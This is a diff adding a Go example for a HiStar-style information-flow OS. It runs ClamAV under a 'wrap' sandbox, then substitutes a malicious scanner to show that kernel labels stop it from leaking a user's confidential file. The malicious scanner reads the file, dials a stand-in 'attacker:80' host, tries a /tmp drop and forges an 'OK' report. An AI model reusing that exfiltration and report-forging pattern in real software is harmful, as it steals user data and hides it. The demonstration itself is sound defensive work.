@@ -1,0 +1,68 @@
+// Example: the Section 6.1 untrusted virus scanner.  A user's private files
+// are scanned by ClamAV running under wrap; a second run swaps in a
+// malicious scanner binary and shows that it can neither exfiltrate over the
+// network nor tamper with user data, because the kernel's label checks — not
+// the scanner's good behaviour — enforce the policy.
+package main
+
+import (
+	"fmt"
+	"log"
+	"time"
+
+	"histar/internal/clamav"
+	"histar/internal/kernel"
+	"histar/internal/label"
+	"histar/internal/netd"
+	"histar/internal/unixlib"
+)
+
+func main() {
+	log.SetFlags(0)
+	sys, err := unixlib.Boot(unixlib.BootOptions{KernelConfig: kernel.Config{Seed: 6}})
+	if err != nil {
+		log.Fatal(err)
+	}
+	inet, err := netd.New(sys, netd.Options{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	exfil := 0
+	inet.RegisterRemote("attacker:80", func(req []byte) []byte { exfil++; return []byte("got it") })
+
+	sys.RegisterProgram(clamav.ScannerProgram, clamav.Scanner)
+	bob, err := sys.NewInitProcess("bob")
+	if err != nil {
+		log.Fatal(err)
+	}
+	clamav.InstallDatabase(bob, clamav.DefaultDatabase())
+	bob.WriteFile("/home/bob/report.doc", []byte("confidential numbers"), label.Label{})
+	bob.WriteFile("/home/bob/download.exe", []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR payload`), label.Label{})
+
+	res, err := clamav.Wrap(bob, []string{"/home/bob/report.doc", "/home/bob/download.exe"}, clamav.WrapOptions{Timeout: 30 * time.Second})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("=== honest scanner under wrap ===")
+	fmt.Print(res.Report)
+
+	// Now a malicious scanner.
+	sys.RegisterProgram(clamav.ScannerProgram, func(p *unixlib.Process, args []string) int {
+		data, _ := p.ReadFile("/home/bob/report.doc")
+		if _, err := netd.Dial(inet, p, "attacker:80"); err != nil {
+			fmt.Println("  malicious scanner: network dial refused:", err)
+		}
+		if err := p.WriteFile("/tmp/drop", data, label.New(label.L1)); err != nil {
+			fmt.Println("  malicious scanner: /tmp drop refused:", err)
+		}
+		if len(args) > 0 {
+			p.WriteFile(args[len(args)-1], []byte("/home/bob/report.doc: OK\n"), label.Label{})
+		}
+		return 0
+	})
+	fmt.Println("=== malicious scanner under wrap ===")
+	if _, err := clamav.Wrap(bob, []string{"/home/bob/report.doc"}, clamav.WrapOptions{Timeout: 30 * time.Second}); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("bytes exfiltrated to attacker: %d (expected 0)\n", exfil)
+}
